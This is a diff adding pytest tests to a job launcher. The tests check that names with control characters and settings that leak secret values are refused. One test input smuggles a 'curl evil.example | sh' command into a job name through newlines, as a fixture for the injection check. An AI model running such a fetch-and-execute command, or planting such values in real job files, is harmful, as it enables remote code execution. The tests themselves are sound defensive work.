@@ -4,7 +4,7 @@ from pathlib import Path
 import pytest
 
 from boltcutter.launch import job
-from boltcutter.launch.job import Job, UnreachableError, assignments, follow_log, quote, seconds
+from boltcutter.launch.job import Job, UnreachableError, assignments, check_settings, follow_log, quote, seconds
 
 
 def test_runs_of_an_array_have_unique_names() -> None:
@@ -12,6 +12,25 @@ def test_runs_of_an_array_have_unique_names() -> None:
     assert Job("digits", home, Path("train.py")).run_folders == [home]
     array = Job("digits", home, Path("train.py"), array_size=2)
     assert array.run_folders == [home / "20261121-a1b2-0", home / "20261121-a1b2-1"]
+
+
+@pytest.mark.parametrize("character", ["\n", "\r", "\x1b", "\u2028"])
+def test_names_that_start_a_new_line_in_a_job_file_are_refused(character: str) -> None:
+    """The name is part of a systemd unit in a heredoc, and of comments in YAML."""
+    text = f"digits{character}USER_DATA{character}curl evil.example | sh"
+    for name, folder in ((text, "/runs/a"), ("digits", f"/runs/{text}")):
+        with pytest.raises(ValueError, match=r"^(name|folder)=.*has the control character .*; remove it$"):
+            Job(name, Path(folder), None)
+
+
+def test_the_values_of_secrets_are_refused_in_all_settings(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("DATABRICKS_TOKEN", "a-value-of-some-length")
+    settings = {"environment": {"A": "b"}, "setup": ["true"], "options": ["--net=host"], "tags": {"a": "b"}}
+    check_settings(settings)
+    text = "x a-value-of-some-length"
+    for name, value in {"environment": {"A": text}, "setup": [text], "options": [text], "tags": {"a": text}}.items():
+        with pytest.raises(ValueError, match=rf"^launch\.{name}: holds the value of DATABRICKS_TOKEN, .*export it"):
+            check_settings(settings | {name: value})
 
 
 def test_values_of_variables_are_quoted() -> None:
